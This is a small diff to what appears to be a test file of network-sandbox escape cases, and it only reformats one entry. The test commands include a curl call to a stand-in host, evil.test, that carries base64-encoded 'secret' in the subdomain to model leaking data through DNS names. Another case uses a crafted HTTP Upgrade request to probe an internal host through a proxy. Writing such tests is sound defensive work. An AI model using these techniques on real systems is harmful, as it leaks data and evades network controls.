@@ -91,8 +91,10 @@ export const deputyCases = [
     'proxy-upgrade',
     `${raw(`printf 'GET http://inside.test:%s/ HTTP/1.1\\r\\nHost: inside.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n' "$ORIGIN_PORT"`)} | grep origin`,
   ),
-  net('names-as-a-channel', `curl -s -m20 https://c2VjcmV0.evil.test/ http://c2VjcmV0.evil.test/; exit 1`, ({ asked }) =>
-    asked.some((host) => host.endsWith('evil.test')),
+  net(
+    'names-as-a-channel',
+    `curl -s -m20 https://c2VjcmV0.evil.test/ http://c2VjcmV0.evil.test/; exit 1`,
+    ({ asked }) => asked.some((host) => host.endsWith('evil.test')),
   ),
   net(
     'proxy-url-user',
